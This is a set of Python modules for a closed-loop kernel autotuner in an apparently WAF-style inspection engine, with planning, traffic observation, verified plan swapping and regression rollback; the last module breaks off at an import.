def candidate_modes() -> tuple:
    """Scan modes the planner may propose per group: the three XLA
    modes always, plus ``bass_compose`` only when the BASS kernel can
    actually run here (toolchain + Neuron backend + WAF_BASS_ENABLE) —
    proposing it on a CPU host would just re-resolve to compose at model
    build and burn a swap for nothing. Lazy import keeps this module
    importable without jax."""
    modes = ["gather", "matmul", "compose"]
    try:
        from ..ops.bass_compose import bass_available
        if bass_available():
            modes.append("bass_compose")
    except Exception:  # pragma: no cover - import probe only
        pass
    return tuple(modes)


def candidate_screen_modes() -> tuple:
    """Screen kernels the planner may propose per group: the JAX gather
    loop always, plus ``bass_screen`` only when the hand-scheduled BASS
    screen can actually run here (same availability reasoning as
    candidate_modes). Lazy import keeps this module importable without
    jax."""
    modes = ["screen"]
    try:
        from ..ops.bass_screen import bass_screen_available
        if bass_screen_available():
            modes.append("bass_screen")
    except Exception:  # pragma: no cover - import probe only
        pass
    return tuple(modes)


def _bucket_of(n: int, ladder: tuple) -> int:
    for b in ladder:
        if n <= b:
            return b
    return ladder[-1]


def _shape_cost(g, lengths, mode: str, stride: int, chunk: int,
                ladder: tuple) -> float:
    """Per-observation cost of one (mode, stride) program family over
    the observed length distribution, in calibrated seconds-ish units
    (normalized: multiply by the lane weight to aggregate)."""
    from ..analysis.audit.cost import predict_program

    m, s, c = (g.dims or (0, 0, 0))
    unit = g.unit_factor(mode, stride)
    total = 0.0
    for length, count in lengths:
        b = _bucket_of(max(2, int(length)), ladder)
        pred = predict_program(mode, stride, b, chunk=chunk,
                               m=m, s=s, c=c)
        total += count * _proxy_units(pred) * unit
    return total


def _screen_cost(g, total_lanes, lengths, screen_mode: str, chunk: int,
                 ladder: tuple) -> float:
    """A group's union-screen cost at the given screen kernel — its
    stride is not plan-controlled (it follows the composed screen), but
    the kernel family is, and benign traffic is often screen-only."""
    if not total_lanes or not g.screen_lanes:
        return 0.0
    return (g.screen_lanes / total_lanes) * _shape_cost(
        g, lengths, screen_mode, g.screen_stride, chunk, ladder)


def _group_cost(g, total_lanes, lengths, mode: str, stride: int,
                chunk: int, ladder: tuple,
                screen_mode: str = "screen") -> float:
    """A group's full cost under a plan: its matcher-lane traffic at
    (mode, stride) PLUS its union-screen traffic at ``screen_mode`` —
    the screen's stride is not plan-controlled, but it packs to the
    same bucket ladder, so ladder wins must count it."""
    if not total_lanes:
        return 0.0
    cost = 0.0
    if g.lanes:
        cost += (g.lanes / total_lanes) * _shape_cost(
            g, lengths, mode, stride, chunk, ladder)
    cost += _screen_cost(g, total_lanes, lengths, screen_mode, chunk,
                         ladder)
    return cost


def score_plan(traffic: TrafficModel, plan: Plan) -> float:
    """Total predicted cost of ``plan`` over the observed traffic.
    Unset plan fields resolve to each group's LIVE config (what an
    empty plan actually runs), so score_plan(current) is the baseline
    a candidate's win is measured against."""
    ladder = plan.buckets or DEFAULT_BUCKETS
    chunk = plan.compose_chunk or traffic.chunk
    total = 0.0
    for gkey, g in traffic.groups.items():
        gp = plan.group(gkey)
        mode = (gp.mode if gp is not None and gp.mode is not None
                else g.live_mode)
        stride = (gp.stride if gp is not None and gp.stride is not None
                  else g.live_stride)
        smode = (gp.screen_mode if gp is not None
                 and gp.screen_mode is not None else "screen")
        total += _group_cost(g, traffic.total_lanes, traffic.lengths,
                             mode, stride, chunk, ladder,
                             screen_mode=smode)
    return total


def derive_buckets(traffic: TrafficModel) -> "tuple | None":
    """Re-derive a bucket ladder from the observed length distribution:
    the histogram edges at the 50/90/99th percentiles plus the default
    ladder's last rung (identical truncation point — see module doc).
    None when there is nothing observed or nothing tighter to gain."""
    lengths = traffic.lengths
    total = sum(n for _, n in lengths)
    if not total:
        return None
    rungs: set[int] = set()
    for q in _LADDER_QUANTILES:
        acc = 0
        for length, n in lengths:
            acc += n
            if acc >= q * total:
                rungs.add(max(2, int(length)))
                break
    rungs = {r for r in rungs if r < DEFAULT_BUCKETS[-1]}
    rungs.add(DEFAULT_BUCKETS[-1])
    ladder = tuple(sorted(rungs))[:MAX_LADDER_RUNGS]
    if DEFAULT_BUCKETS[-1] not in ladder:
        ladder = ladder[:MAX_LADDER_RUNGS - 1] + (DEFAULT_BUCKETS[-1],)
    return ladder if ladder != DEFAULT_BUCKETS else None


class Planner:
    """Deterministic candidate search + hysteresis.

    ``propose()`` returns ``(plan, predicted_win)`` — or None when the
    dwell clock has not run out, traffic is too thin, or nothing beats
    the live plan by ``min_win`` — and the controller reports the win
    as the fraction of predicted cost removed (0.1 = 10% cheaper).
    """

    def __init__(self, min_dwell_s: float = 120.0, min_win: float = 0.1,
                 min_lanes: int = 32):
        self.min_dwell_s = max(0.0, float(min_dwell_s))
        self.min_win = max(0.0, float(min_win))
        self.min_lanes = max(0, int(min_lanes))
        # monotonic instant of the last plan change (swap OR rollback);
        # None = never changed, dwell gate open
        self.last_change: "float | None" = None

    def mark_changed(self, now: float) -> None:
        self.last_change = float(now)

    def propose(self, traffic: TrafficModel, current: Plan,
                now: float) -> "tuple[Plan, float] | None":
        if not traffic.groups or traffic.total_lanes < self.min_lanes:
            return None
        if (self.last_change is not None
                and now - self.last_change < self.min_dwell_s):
            return None
        base = score_plan(traffic, current)
        if base <= 0.0:
            return None
        best_plan: "Plan | None" = None
        best_cost = base
        modes = candidate_modes()
        smodes = candidate_screen_modes()
        any_screen = any(g.screen_lanes for g in traffic.groups.values())
        ladders = [current.buckets, derive_buckets(traffic)]
        seen: set = set()
        for ladder in ladders:
            if ladder in seen:
                continue
            seen.add(ladder)
            eff_ladder = ladder or DEFAULT_BUCKETS
            for chunk in CHUNK_CANDIDATES:
                eff_chunk = chunk or traffic.chunk
                groups: dict[str, GroupPlan] = {}
                cost = 0.0
                for gkey, g in traffic.groups.items():
                    # the screen kernel choice is additive and
                    # independent of the lane (mode, stride): pick it by
                    # cost over the available kernels. Pinned explicitly
                    # whenever there is a real choice — the model would
                    # otherwise default to bass_screen when available
                    s_pick = None
                    s_cost = 0.0
                    if g.screen_lanes:
                        for sm in smodes:
                            sc = _screen_cost(
                                g, traffic.total_lanes, traffic.lengths,
                                sm, eff_chunk, eff_ladder)
                            if s_pick is None or sc < s_cost:
                                s_pick, s_cost = sm, sc
                        if len(smodes) < 2:
                            s_pick = None  # no choice -> defer to env
                    if not g.lanes:
                        # screen-only group: no lane (mode, stride) to
                        # act on — defer those to env/live and let the
                        # ladder + screen kernel carry the cost
                        groups[gkey] = GroupPlan(screen_mode=s_pick)
                        cost += _group_cost(
                            g, traffic.total_lanes, traffic.lengths,
                            g.live_mode, g.live_stride, eff_chunk,
                            eff_ladder, screen_mode=s_pick or "screen")
                        continue
                    best_g = None
                    best_gc = None
                    for mode in modes:
                        for stride in VALID_STRIDES:
                            gc = _group_cost(
                                g, traffic.total_lanes,
                                traffic.lengths, mode, stride,
                                eff_chunk, eff_ladder,
                                screen_mode=s_pick or "screen")
                            if best_gc is None or gc < best_gc:
                                best_gc, best_g = gc, (mode, stride)
                    cost += best_gc or 0.0
                    groups[gkey] = GroupPlan(stride=best_g[1],
                                             mode=best_g[0],
                                             screen_mode=s_pick)
                if cost < best_cost:
                    best_cost = cost
                    # fast-accept rider: bit-identical by construction
                    # (the applier differential re-verifies), so turn it
                    # on whenever the screen actually carries traffic
                    best_plan = Plan(groups=groups, compose_chunk=chunk,
                                     buckets=ladder,
                                     fast_accept=(True if any_screen
                                                  else None))
        if best_plan is None:
            return None
        win = 1.0 - best_cost / base
        if win < self.min_win:
            return None
        return best_plan, win
