"""Plan value objects: the autotuner's unit of configuration.

A :class:`Plan` is everything the kernel family lets us choose per
model build: per-transform-chain-group scan stride (1/2/4) and scan
mode (gather/matmul/compose/bass_compose), the compose chunk K, and the
shape-bucket ladder requests pack into. Every field is optional — ``None`` defers to
the engine-level param / env knob, so ``Plan()`` is exactly today's
static configuration and the runtime needs no "is autotuning on" branch:
it always resolves through the plan, which is usually empty.

This module is a pure leaf (no runtime/model imports) so the planner,
the engines and the tools can all share it without cycles. The runtime
duck-types the plan (``.group(key)``, ``.compose_chunk``, ``.buckets``),
keyed by the group key the profiler already uses:
``"|".join(transforms) or "none"``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

VALID_STRIDES = (1, 2, 4)
# mirror of ops.packing.SCAN_MODES — this module is a pure leaf, so the
# plan space names the modes itself (tests pin the two in sync)
VALID_MODES = ("gather", "matmul", "compose", "bass_compose")
# screen kernel choices (runtime _Group.screen_mode): the JAX gather
# loop vs the hand-scheduled BASS schedule (ops/bass_screen)
VALID_SCREEN_MODES = ("screen", "bass_screen")


@dataclass(frozen=True)
class GroupPlan:
    """Kernel choice for one transform-chain group; None = env default."""

    stride: int | None = None  # 1, 2 or 4
    mode: str | None = None  # gather | matmul | compose | bass_compose
    screen_mode: str | None = None  # screen | bass_screen

    def __post_init__(self) -> None:
        if self.stride is not None and self.stride not in VALID_STRIDES:
            raise ValueError(
                f"stride {self.stride!r} not in {VALID_STRIDES}")
        if self.mode is not None and self.mode not in VALID_MODES:
            raise ValueError(f"unknown scan mode {self.mode!r}")
        if (self.screen_mode is not None
                and self.screen_mode not in VALID_SCREEN_MODES):
            raise ValueError(
                f"unknown screen mode {self.screen_mode!r}")

    def as_dict(self) -> dict:
        out: dict = {}
        if self.stride is not None:
            out["stride"] = self.stride
        if self.mode is not None:
            out["mode"] = self.mode
        if self.screen_mode is not None:
            out["screen_mode"] = self.screen_mode
        return out


@dataclass(frozen=True)
class Plan:
    """One complete kernel configuration over the whole model."""

    groups: dict[str, GroupPlan] = field(default_factory=dict)
    compose_chunk: int | None = None
    # ascending length-bucket ladder replacing LENGTH_BUCKETS; the last
    # entry must still cover the same max length the default ladder does
    # (the builder validates monotonicity, the planner caps the count)
    buckets: tuple[int, ...] | None = None
    # screen-first fast-accept wave (runtime wave 0): None defers to the
    # engine's WAF_FAST_ACCEPT; the planner offers True only when the
    # screen actually carries traffic (bit-identical either way, so this
    # is a pure latency lever)
    fast_accept: bool | None = None

    def __post_init__(self) -> None:
        if self.compose_chunk is not None and self.compose_chunk < 1:
            raise ValueError("compose_chunk must be >= 1")
        if self.buckets is not None:
            b = tuple(int(x) for x in self.buckets)
            if not b or list(b) != sorted(set(b)) or b[0] < 2:
                raise ValueError(
                    f"buckets must be a strictly ascending tuple of "
                    f"lengths >= 2, got {self.buckets!r}")
            object.__setattr__(self, "buckets", b)

    def group(self, key: str) -> GroupPlan | None:
        return self.groups.get(key)

    @property
    def is_default(self) -> bool:
        """True when nothing overrides the env-knob defaults."""
        return (not any(g.as_dict() for g in self.groups.values())
                and self.compose_chunk is None and self.buckets is None
                and self.fast_accept is None)

    def as_dict(self) -> dict:
        return {
            "groups": {k: g.as_dict()
                       for k, g in sorted(self.groups.items())
                       if g.as_dict()},
            "compose_chunk": self.compose_chunk,
            "buckets": list(self.buckets) if self.buckets else None,
            "fast_accept": self.fast_accept,
        }

    @classmethod
    def from_dict(cls, d: dict) -> "Plan":
        groups = {
            str(k): GroupPlan(stride=g.get("stride"), mode=g.get("mode"),
                              screen_mode=g.get("screen_mode"))
            for k, g in (d.get("groups") or {}).items()
        }
        buckets = d.get("buckets")
        return cls(groups=groups,
                   compose_chunk=d.get("compose_chunk"),
                   buckets=tuple(buckets) if buckets else None,
                   fast_accept=d.get("fast_accept"))

    def describe(self) -> str:
        """Compact human-readable one-liner for logs/status."""
        if self.is_default:
            return "default"
        bits = [f"{k}:{g.mode or '*'}/s{g.stride or '*'}"
                + (f"/scr:{g.screen_mode}" if g.screen_mode else "")
                for k, g in sorted(self.groups.items()) if g.as_dict()]
        if self.compose_chunk is not None:
            bits.append(f"chunk={self.compose_chunk}")
        if self.fast_accept is not None:
            bits.append(f"fast_accept={'on' if self.fast_accept else 'off'}")
        if self.buckets is not None:
            bits.append(f"buckets={list(self.buckets)}")
        return " ".join(bits)
