"""Observer: fold engine telemetry into a per-group traffic model.

The profiler already measures everything the planner needs — per-
(group, bucket, mode, stride) device seconds with lane attribution
(``ProgramProfiler.export_programs``) and per-bucket byte-length /
lane-occupancy fill histograms (``export_buckets``, satellite of this
PR). ``observe()`` joins those against the live model's group info into
a :class:`TrafficModel`: per-group observed lane weight, the live
(mode, stride) the group runs at, its table dims, and measured seconds
per analytic proxy unit for every (mode, stride) actually observed —
the calibration the planner uses to scale static predictions.

Pure host-side code, no jax imports: snapshots in, dataclasses out.
"""

from __future__ import annotations

from dataclasses import dataclass, field

# lane-scan modes the plan controls; "screen" and "host" programs are
# observed but not planned (screens follow the group's tables, host is
# the breaker fallback)
PLANNED_MODES = ("gather", "matmul", "compose")


@dataclass
class GroupTraffic:
    """Observed traffic + calibration for one transform-chain group."""

    key: str
    lanes: int = 0  # observed matcher lane-scans
    # union-screen lanes observed for this group: benign traffic is
    # often screen-only (everything screened out), and the screen pays
    # the SAME bucket ladder, so ladder wins must count screen traffic
    screen_lanes: int = 0
    screen_stride: int = 1  # the screen's own (non-planned) stride
    dims: "tuple | None" = None  # (m, s, c) of the group's tables
    live_mode: str = "gather"
    live_stride: int = 1
    # (mode, stride) -> [seconds_total, proxy_units_total]: measured
    # device seconds vs the analytic proxy cost of the same programs —
    # the seconds-per-proxy-unit calibration for score_plan. Screen
    # programs land under ("screen", stride).
    units: dict = field(default_factory=dict)

    def unit_factor(self, mode: str, stride: int) -> float:
        """Measured seconds per analytic proxy unit for (mode, stride);
        falls back to the live config's factor, then to 1.0 (pure
        analytic comparison) — always a consistent scale WITHIN the
        group, which is all the additive objective needs."""
        for key in ((mode, stride), (self.live_mode, self.live_stride),
                    ("screen", self.screen_stride)):
            got = self.units.get(key)
            if got and got[1] > 0:
                return got[0] / got[1]
        return 1.0


@dataclass
class TrafficModel:
    """Everything the planner scores against, from one observation."""

    groups: dict[str, GroupTraffic] = field(default_factory=dict)
    # observed packed byte-length distribution, pooled across groups:
    # (representative length, count) points from the fill histograms
    lengths: list = field(default_factory=list)
    total_lanes: int = 0
    chunk: int = 16  # live compose chunk (plan/env), the score default


def _proxy_units(pred: dict) -> float:
    """Scalar analytic cost of one program from predict_program output:
    sequential depth plus op-class weights, so modes with the same step
    count but heavier per-step work (matmul contractions) don't tie."""
    return (pred.get("scan_steps", 0)
            + 0.1 * pred.get("gathers", 0)
            + 0.3 * pred.get("matmuls", 0))


def observe(profiler, engine=None) -> TrafficModel:
    """One observation round: profiler snapshot (+ the live engine's
    group info when given) -> TrafficModel."""
    from ..analysis.audit.cost import predict_program

    tm = TrafficModel()
    chunk = None
    live: dict[str, tuple[str, int, int]] = {}
    if engine is not None:
        model = getattr(engine, "model", None)
        if model is not None:
            chunk = getattr(model, "compose_chunk", None)
            for info in model.group_info():
                live[info["transforms"]] = (info["scan_mode"],
                                            info["stride"])
    if chunk is None:
        from ..config import env as envcfg
        chunk = max(1, envcfg.get_int("WAF_COMPOSE_CHUNK"))
    tm.chunk = int(chunk)

    for rec in profiler.export_programs():
        mode = rec["mode"]
        if mode not in PLANNED_MODES and mode != "screen":
            continue
        gkey = rec["group"]
        g = tm.groups.get(gkey)
        if g is None:
            g = tm.groups.setdefault(gkey, GroupTraffic(key=gkey))
        if mode == "screen":
            g.screen_lanes += rec["lanes_total"]
            g.screen_stride = rec["stride"]
        else:
            g.lanes += rec["lanes_total"]
            if rec.get("dims"):
                g.dims = tuple(int(d) for d in rec["dims"][:3])
        tm.total_lanes += rec["lanes_total"]
        m, s, c = (g.dims or (0, 0, 0))
        try:
            pred = predict_program(mode, rec["stride"], rec["bucket"],
                                   chunk=tm.chunk, m=m, s=s, c=c)
        except Exception:
            continue
        cell = g.units.setdefault((mode, rec["stride"]), [0.0, 0.0])
        cell[0] += rec["seconds_total"]
        cell[1] += _proxy_units(pred) * rec["count"]

    for gkey, g in tm.groups.items():
        got = live.get(gkey)
        if got is not None:
            g.live_mode, g.live_stride = got
        else:
            lane_keys = [k for k in g.units if k[0] != "screen"]
            if lane_keys:
                # no engine handle: call the most-observed config live
                g.live_mode, g.live_stride = max(
                    lane_keys, key=lambda k: g.units[k][1])

    # pooled byte-length distribution from the fill histograms; each
    # histogram slot is represented by its inclusive upper edge (the
    # overflow slot by the observed max length)
    counts: dict[int, int] = {}
    for rec in profiler.export_buckets():
        hist = rec.get("hist") or []
        bounds = _bounds()
        for i, n in enumerate(hist):
            if not n:
                continue
            rep = (bounds[i] if i < len(bounds)
                   else max(rec.get("max_len", 0), bounds[-1] + 1))
            counts[rep] = counts.get(rep, 0) + n
    if not counts:
        # no fill samples yet: the observed program buckets stand in as
        # length points (ladder derivation then reproduces them)
        for rec in profiler.export_programs():
            if (rec["mode"] in PLANNED_MODES or rec["mode"] == "screen") \
                    and rec["bucket"] > 0:
                counts[rec["bucket"]] = (counts.get(rec["bucket"], 0)
                                         + rec["count"])
    tm.lengths = sorted(counts.items())
    return tm


def _bounds() -> tuple:
    from ..runtime.profiler import BYTE_LEN_BOUNDS
    return BYTE_LEN_BOUNDS
