"""Applier: pre-trace, verify, and atomically swap a winning plan.

The safety half of the autotuner. A plan only goes live through this
gauntlet, in order:

1. **Build** — ``engine.build_candidate(plan)`` compiles a candidate
   model off to the side (the live ``(tenants, model)`` pair is never
   touched). Any exception — injected compile faults included — aborts.
2. **Pre-trace** — the candidate warms its own shape buckets through
   the shared CompileCache, so the post-swap first request pays no
   trace/compile time. A pre-trace exception aborts; so does any
   CompileCache write error during it (``stats()["errors"]`` delta —
   the cache swallows write faults by design, so the delta is the only
   observable signal).
3. **Differential** — for a deterministic reservoir of recently
   observed (tenant, request) pairs, the candidate's device bits are
   compared bit-for-bit against the live model's on identical extracted
   values. ANY mismatch rejects the candidate: a plan may change
   padding and step structure, never bits (the verdict-parity
   contract).
4. **Swap** — ``engine.install_plan(plan, candidate)``: the same
   atomic single-attribute publish as a tenant hot reload, epoch
   bumped, install-before-retire on the sharded engine. A hot reload
   that raced the pre-trace makes the candidate stale; install_plan
   then refuses and the applier reports it (the controller just
   retries next round against the new tenants).

Engines without ``build_candidate`` (the sharded mesh, whose models are
chip-local) skip 1–3 and install inline under their epoch lock; the
chips rebuild through the shared compile cache the pre-trace of a
previous single-engine run may already have warmed.
"""

from __future__ import annotations

import time

from .plan import Plan


class PlanApplier:
    """Drives one engine through build -> pre-trace -> verify -> swap."""

    # deterministic reservoir: every RESERVOIR_PERIOD-th observed
    # request replaces the next slot round-robin (no RNG, so replays
    # and tests are exactly reproducible)
    RESERVOIR_PERIOD = 17

    def __init__(self, engine, clock=time.monotonic,
                 max_samples: int = 8):
        self.engine = engine
        self.clock = clock
        self.max_samples = max(1, int(max_samples))
        self._reservoir: list = []  # (tenant, HttpRequest)
        self._seen = 0
        # test seam: called with the candidate model between pre-trace
        # and differential (tests corrupt it to prove the gate rejects)
        self.candidate_hook = None
        self.swaps = 0
        self.rejects = 0  # differential mismatches
        self.failures = 0  # build/pre-trace/cache-write aborts
        self.stale = 0  # hot reload raced the candidate
        self.verified = 0  # differential samples compared
        self.last_error: "str | None" = None

    # -- sampling ----------------------------------------------------------
    def observe_request(self, tenant: str, request) -> None:
        """Feed the differential reservoir (called per inspected
        request from the batcher; cheap: two int ops off-period)."""
        i = self._seen
        self._seen += 1
        if len(self._reservoir) < self.max_samples:
            self._reservoir.append((tenant, request))
        elif i % self.RESERVOIR_PERIOD == 0:
            slot = (i // self.RESERVOIR_PERIOD) % self.max_samples
            self._reservoir[slot] = (tenant, request)

    # -- the gauntlet ------------------------------------------------------
    def apply(self, plan: Plan) -> dict:
        """Run the full gauntlet; returns a status dict with
        ``applied`` plus a ``reason`` when the plan did not go live.
        The live plan is untouched on every non-applied outcome."""
        eng = self.engine
        cache = getattr(eng, "compile_cache", None)
        err0 = cache.stats()["errors"] if cache is not None else 0
        candidate = None
        if hasattr(eng, "build_candidate"):
            try:
                candidate = eng.build_candidate(plan)
            except Exception as e:
                self.failures += 1
                self.last_error = f"build: {e}"
                return {"applied": False, "reason": "build-failed",
                        "error": str(e)}
            model = candidate[1]
            if model is not None:
                try:
                    # pre-trace the candidate's own ladder head (its
                    # hottest shapes) through the shared compile cache
                    model.warmup(lengths=tuple(model.buckets[:2]),
                                 block=True)
                except Exception as e:
                    self.failures += 1
                    self.last_error = f"pretrace: {e}"
                    return {"applied": False,
                            "reason": "pretrace-failed",
                            "error": str(e)}
                if (cache is not None
                        and cache.stats()["errors"] > err0):
                    # the cache swallows write faults (store() never
                    # raises); a dirty pre-trace must not go live
                    self.failures += 1
                    self.last_error = "pretrace: cache write errors"
                    return {"applied": False,
                            "reason": "cache-write-failed"}
                if self.candidate_hook is not None:
                    self.candidate_hook(model)
                mismatches, compared = self._differential(candidate)
                self.verified += compared
                if mismatches:
                    self.rejects += 1
                    self.last_error = (
                        f"differential: {mismatches}/{compared} "
                        f"samples mismatched")
                    return {"applied": False,
                            "reason": "differential-mismatch",
                            "mismatches": mismatches,
                            "compared": compared}
        ok = eng.install_plan(plan, candidate)
        if not ok:
            self.stale += 1
            return {"applied": False, "reason": "stale-candidate"}
        self.swaps += 1
        return {"applied": True, "plan": plan.describe()}

    # -- differential ------------------------------------------------------
    def _differential(self, candidate) -> tuple[int, int]:
        """Compare candidate vs live device bits on the reservoir;
        returns (mismatched_samples, compared_samples)."""
        tenants, model = candidate
        live_model = getattr(self.engine, "model", None)
        if live_model is None or model is None:
            return 0, 0
        mismatches = compared = 0
        for tenant, request in list(self._reservoir):
            st = tenants.get(tenant)
            if st is None:
                continue
            try:
                new = self._bits(model, st, tenant, request)
                live = self._bits(live_model, st, tenant, request)
            except Exception as e:
                # a sample the candidate cannot even scan is a reject
                self.last_error = f"differential: {e}"
                mismatches += 1
                compared += 1
                continue
            compared += 1
            if new != live:
                mismatches += 1
        return mismatches, compared

    @staticmethod
    def _bits(model, st, tenant: str, request) -> dict:
        """One request's device bits under one model: every matcher of
        the tenant, body processed, values extracted exactly as the
        inspection path extracts them (same _ValueProvider)."""
        from ..runtime.multitenant import _ValueProvider

        tx = st.waf.new_transaction(request)
        tx.process_request_body()
        active = {m.mid for m in st.compiled.matchers}
        return model.match_bits(
            [(tenant, _ValueProvider(tx), active)])[0]
