"""Controller: the closed observe -> plan -> verify -> swap loop.

``AutoTuner`` glues the observer, planner and applier together behind
the ``WAF_AUTOTUNE*`` env knobs. Each control round (``run_once``, run
from a background thread every ``WAF_AUTOTUNE_INTERVAL_S`` or driven
synchronously by tests/bench):

1. **Watch** — if a swap happened recently, compare the mean device
   seconds-per-program observed SINCE the swap against the pre-swap
   baseline; a regression beyond ``regress_frac`` rolls the previous
   plan back immediately (no dwell, no differential — that plan
   already served) and restarts the dwell clock.
2. **Observe** — fold the profiler into a TrafficModel.
3. **Plan** — ask the planner for a candidate (hysteresis inside).
4. **Apply** — run the applier's gauntlet, unless ``dry_run`` (then
   the candidate and its predicted win are only reported).

All timing goes through an injectable monotonic clock (TIME001); the
background thread waits on an Event so stop() is immediate.
"""

from __future__ import annotations

import threading
import time

from .applier import PlanApplier
from .observer import observe
from .plan import Plan
from .planner import Planner


class AutoTuner:
    """Background kernel-plan controller for one engine."""

    def __init__(self, engine, profiler, clock=time.monotonic, *,
                 interval_s: "float | None" = None,
                 min_dwell_s: "float | None" = None,
                 min_win: "float | None" = None,
                 dry_run: "bool | None" = None,
                 regress_frac: float = 0.5,
                 min_regress_obs: int = 8,
                 min_lanes: int = 32,
                 planner: "Planner | None" = None,
                 applier: "PlanApplier | None" = None):
        from ..config import env as envcfg

        if interval_s is None:
            interval_s = envcfg.get_float("WAF_AUTOTUNE_INTERVAL_S")
        if min_dwell_s is None:
            min_dwell_s = envcfg.get_float("WAF_AUTOTUNE_MIN_DWELL_S")
        if min_win is None:
            min_win = envcfg.get_float("WAF_AUTOTUNE_MIN_WIN")
        if dry_run is None:
            dry_run = envcfg.get_bool("WAF_AUTOTUNE_DRY_RUN")
        self.engine = engine
        self.profiler = profiler
        self.clock = clock
        self.interval_s = max(1.0, float(interval_s))
        self.dry_run = bool(dry_run)
        self.regress_frac = max(0.0, float(regress_frac))
        self.min_regress_obs = max(1, int(min_regress_obs))
        self.planner = planner if planner is not None else Planner(
            min_dwell_s=min_dwell_s, min_win=min_win,
            min_lanes=min_lanes)
        self.applier = applier if applier is not None else PlanApplier(
            engine, clock=clock)
        self.rounds = 0
        self.rollbacks = 0
        self.swap_wins: list[float] = []  # predicted win per live swap
        # plan live before the last swap (what a rollback restores)
        self._prev_plan: "Plan | None" = None
        # post-swap regression watch: (baseline mean s/program,
        # count at swap, seconds_total at swap); None = not watching
        self._watch: "tuple | None" = None
        self._last_round: dict = {}
        self._thread: "threading.Thread | None" = None
        self._stop = threading.Event()

    # -- request sampling (batcher feeds this) -----------------------------
    def observe_request(self, tenant: str, request) -> None:
        self.applier.observe_request(tenant, request)

    # -- telemetry helpers -------------------------------------------------
    def _device_totals(self) -> tuple[int, float]:
        """(program count, seconds_total) over every non-host program
        observed so far — the regression watch's raw material."""
        count = 0
        seconds = 0.0
        for rec in self.profiler.export_programs():
            if rec["mode"] == "host":
                continue
            count += rec["count"]
            seconds += rec["seconds_total"]
        return count, seconds

    # -- one control round -------------------------------------------------
    def run_once(self, now: "float | None" = None) -> dict:
        now = self.clock() if now is None else float(now)
        self.rounds += 1
        status: dict = {"round": self.rounds, "dry_run": self.dry_run}

        # 1) post-swap regression watch
        if self._watch is not None:
            base_mean, c0, s0 = self._watch
            c1, s1 = self._device_totals()
            fresh = c1 - c0
            if fresh >= self.min_regress_obs:
                new_mean = (s1 - s0) / fresh
                status["watch"] = {
                    "baseline_mean_s": round(base_mean, 9),
                    "observed_mean_s": round(new_mean, 9),
                    "observations": fresh,
                }
                if (base_mean > 0.0
                        and new_mean > base_mean
                        * (1.0 + self.regress_frac)):
                    # regression: restore the pre-swap plan inline (it
                    # already served — no differential needed)
                    self.engine.install_plan(self._prev_plan)
                    self.rollbacks += 1
                    self.planner.mark_changed(now)
                    self._watch = None
                    status["rollback"] = True
                    self._last_round = status
                    return status
                self._watch = None  # healthy: stop watching

        # 2) observe
        traffic = observe(self.profiler, engine=self.engine)
        status["observed_lanes"] = traffic.total_lanes

        # 3) plan
        current = getattr(self.engine, "plan", None) or Plan()
        got = self.planner.propose(traffic, current, now)
        if got is None:
            status["plan"] = current.describe()
            self._last_round = status
            return status
        plan, win = got
        status["candidate"] = plan.describe()
        status["predicted_win"] = round(win, 4)
        if self.dry_run:
            status["applied"] = False
            status["reason"] = "dry-run"
            self._last_round = status
            return status

        # 4) apply (build -> pre-trace -> verify -> swap)
        c0, s0 = self._device_totals()
        prev = getattr(self.engine, "plan", None)
        result = self.applier.apply(plan)
        status.update(result)
        if result.get("applied"):
            self._prev_plan = prev
            self.planner.mark_changed(now)
            base_mean = (s0 / c0) if c0 else 0.0
            self._watch = (base_mean, c0, s0)
            self.swap_wins.append(float(win))
        self._last_round = status
        return status

    # -- background thread -------------------------------------------------
    def start(self) -> None:
        if self._thread is not None and self._thread.is_alive():
            return
        self._stop.clear()
        self._thread = threading.Thread(
            target=self._run, name="waf-autotune", daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        t = self._thread
        if t is not None:
            t.join(timeout=5.0)
        self._thread = None

    def _run(self) -> None:
        while not self._stop.wait(self.interval_s):
            try:
                self.run_once()
            except Exception:
                # a broken round must never kill the loop; the engine
                # keeps serving on the live plan either way
                continue

    # -- export (metrics provider + /debug/autotune) -----------------------
    def status(self) -> dict:
        plan = getattr(self.engine, "plan", None)
        ap = self.applier
        return {
            "enabled": True,
            "dry_run": self.dry_run,
            "interval_s": self.interval_s,
            "rounds": self.rounds,
            "swaps": ap.swaps,
            "rejects": ap.rejects,
            "failures": ap.failures,
            "stale": ap.stale,
            "rollbacks": self.rollbacks,
            "verified_samples": ap.verified,
            "last_error": ap.last_error,
            "plan": plan.describe() if plan is not None else "default",
            "plan_dict": plan.as_dict() if plan is not None else None,
            "predicted_wins": [round(w, 4) for w in self.swap_wins],
            "last_round": dict(self._last_round),
        }
