"""Closed-loop kernel autotuner: observe -> plan -> verify -> swap.

The engine measures everything (ProgramProfiler per-program seconds,
EngineStats stride/mode groups and padding waste, per-bucket byte-length
fill histograms) but the kernel-choice knobs — ``WAF_SCAN_STRIDE``,
``WAF_SCAN_MODE``, ``WAF_COMPOSE_CHUNK``, the shape buckets — are static
globals. This package closes the loop:

- :mod:`plan` — the Plan/GroupPlan value objects: per-group stride and
  scan mode, a compose chunk, and a re-derived shape-bucket ladder.
  ``None`` fields defer to the env knobs, so the empty plan IS the
  static default configuration.
- :mod:`observer` — folds profiler aggregates and bucket-fill
  histograms into a per-group traffic model (observed request weight,
  byte-length quantiles, measured seconds per analytic cost unit).
- :mod:`planner` — scores candidate plans with measured
  seconds-per-request joined against ``analysis/audit/cost``'s static
  predictions, with hysteresis (min dwell, min predicted win) so the
  plan never flaps.
- :mod:`applier` — pre-traces the winning plan in the background
  through CompileCache/warmup, verifies it with a sampled bit-identical
  differential against the live model, swaps atomically through the
  epoch-pinned hot-reload path, and rolls back when post-swap profiler
  deltas regress.
- :mod:`controller` — the ``AutoTuner`` background thread gluing the
  three together behind the ``WAF_AUTOTUNE*`` knobs, exported via
  ``/debug/autotune`` and the metrics provider.

Safety invariants (DEVELOPMENT.md "Feedback-driven autotuning"):
verdicts are never changed by a plan (the differential gate rejects any
candidate whose device bits differ), a failed pre-trace/verify leaves
the live plan untouched, and a swap that regresses is rolled back
without re-verification (the prior plan already served).
"""

from .applier import PlanApplier
from .controller import AutoTuner
from .observer import TrafficModel, observe
from .plan import GroupPlan, Plan
from .planner import Planner, score_plan

__all__ = [
    "AutoTuner",
    "GroupPlan",
    "Plan",
    "PlanApplier",
    "Planner",
    "TrafficModel",
    "observe",
    "score_plan",
]
