"""Typed configuration surfaces (env-knob registry)."""

from .env import (  # noqa: F401
    REGISTRY,
